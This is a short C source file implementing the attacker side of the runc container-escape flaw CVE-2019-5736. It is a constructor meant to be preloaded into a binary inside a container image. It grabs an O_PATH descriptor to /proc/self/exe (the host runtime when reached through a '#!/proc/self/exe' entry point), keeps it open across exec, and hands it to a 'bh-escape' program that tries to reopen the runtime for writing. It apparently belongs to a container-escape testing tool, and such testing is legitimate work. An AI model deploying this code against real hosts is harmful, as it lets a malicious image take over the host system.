/* The attacker's half of CVE-2019-5736, as an image could ship it: preloaded into whatever
 * dynamically linked binary the container starts. When that binary is the runtime itself
 * (reached through a "#!/proc/self/exe" entry point), keep an O_PATH descriptor to it and
 * hand it to `bh-escape run proc_self_exe`, which tries to reopen it for writing. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void bh_escape_trap(void) {
  int fd = open("/proc/self/exe", O_PATH); /* not CLOEXEC: it must survive the exec */
  if (fd < 0) return;
  char num[16];
  snprintf(num, sizeof num, "%d", fd);
  setenv("BH_EXE_FD", num, 1);
  unsetenv("LD_PRELOAD");
  char* const argv[] = {"bh-escape", "run", "proc_self_exe", NULL};
  execve("/bh-escape", argv, environ);
  _exit(127);
}
